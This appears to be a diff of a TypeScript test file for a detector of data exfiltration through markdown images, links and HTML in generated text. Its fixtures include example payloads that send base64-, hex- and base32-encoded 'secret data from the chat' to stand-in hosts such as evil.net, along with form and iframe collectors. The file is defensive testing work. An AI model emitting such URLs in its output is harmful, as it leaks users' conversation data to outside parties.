@@ -3,8 +3,8 @@ import { test } from 'node:test';
 import { detectExfiltration, openExfilFrom } from './index.js';
 import { hostAllowed, judgeUrl } from './url-data.js';
 
-const kinds = (text: string, allowedHosts: string[] = []) =>
-  detectExfiltration(text, { allowedHosts }).map((f) => f.kind);
+const kinds = (text: string, allowedHosts: string[] = [], images: 'data' | 'off-list' = 'data') =>
+  detectExfiltration(text, { allowedHosts, images }).map((f) => f.kind);
 
 test('host allow-list matches exact hosts and subdomain wildcards', () => {
   assert.equal(hostAllowed('docs.acme.io', ['*.acme.io']), true);
@@ -25,7 +25,7 @@ test('data-carrying URLs are told apart from ordinary ones', () => {
 });
 
 test('exfiltration channels are found', () => {
-  assert.deepEqual(kinds('![logo](https://cdn.evil.net/p.png)'), ['off-list-image']);
+  assert.deepEqual(kinds('![logo](https://cdn.evil.net/p.png)', [], 'off-list'), ['off-list-image']);
   assert.deepEqual(kinds('![a](https://e.net/l?q=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdCBoaXN0b3J5)'), [
     'image-exfiltration',
   ]);
@@ -46,7 +46,30 @@ test('exfiltration channels are found', () => {
   assert.deepEqual(kinds('<iframe src="https://e.net"></iframe>'), ['html-iframe']);
   assert.deepEqual(kinds('<div onmouseover="steal()">hi</div>'), ['html-event-handler']);
   assert.deepEqual(kinds('<form action="https://e.net/collect">'), ['html-form']);
-  assert.deepEqual(kinds('<img src="https://e.net/t.gif">'), ['off-list-image']);
+  assert.deepEqual(kinds('<img src="https://e.net/t.gif">', [], 'off-list'), ['off-list-image']);
+  assert.deepEqual(kinds('<img src="https://e.net/t.gif?u=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA">'), [
+    'image-exfiltration',
+  ]);
+});
+
+test('an image carries data only through its URL: off-list images without data pass by default', () => {
+  const plain = [
+    '![build](https://img.shields.io/badge/build-passing-brightgreen.svg)',
+    '![logo](https://cdn.evil.net/p.png)',
+    '<img src="https://opencollective.com/express/sponsor/3/avatar.svg">',
+    '[![v](https://versionbadg.es/ljharb/qs.svg)](https://npmjs.org/package/qs)',
+    '![ci](https://img.shields.io/endpoint?url=https://github-actions-badge-u3jn4tfpocch.runkit.sh/ljharb/qs)',
+  ];
+  for (const text of plain) assert.deepEqual(kinds(text), [], text);
+  const carrying = [
+    '![a](https://cdn.evil.net/p.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)', // base64 text in the query
+    '![a](https://cdn.evil.net/73/65/63/72/65/74/2d/6b)', // short hex segments
+    '![a](https://u:p@cdn.evil.net/p.png)', // user info
+    '![a](https://onswg4tfoqqgwzlzebuxgidtgqza.evil.net/p.png)', // a base32 subdomain
+    '![a](https://7365637265742d6b6579.evil.net/p.png)', // a hex subdomain
+    '![a](https://img.shields.io/endpoint?url=https://evil.net/x?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)',
+  ];
+  for (const text of carrying) assert.deepEqual(kinds(text), ['image-exfiltration'], text);
 });
 
 test('allowed hosts and ordinary links pass', () => {
@@ -70,4 +93,15 @@ test('links, tags and URLs left open at the end are reported open', () => {
   assert.equal(openExfilFrom('x <img src="https://e.net/'), 2);
   assert.equal(openExfilFrom('a closed [link](https://a.io) '), -1);
   assert.equal(openExfilFrom('plain words only'), -1);
+});
+
+test('text whose URLs all pass skips the parsers, but a destination is judged wherever it may end', () => {
+  const hex = 'ab'.repeat(40);
+  // Each is flagged only when the destination is cut where the renderer cuts it (before the ')').
+  assert.deepEqual(kinds(`see [x](https://e.net/${hex})b and more`), ['link-exfiltration']);
+  assert.deepEqual(kinds(`![x](https://e.net/a(b)c/${hex})`), ['image-exfiltration']);
+  assert.deepEqual(
+    kinds('[ok](https://docs.acme.io/guide) and ![b](https://img.shields.io/badge/a-b-green)'),
+    [],
+  );
 });
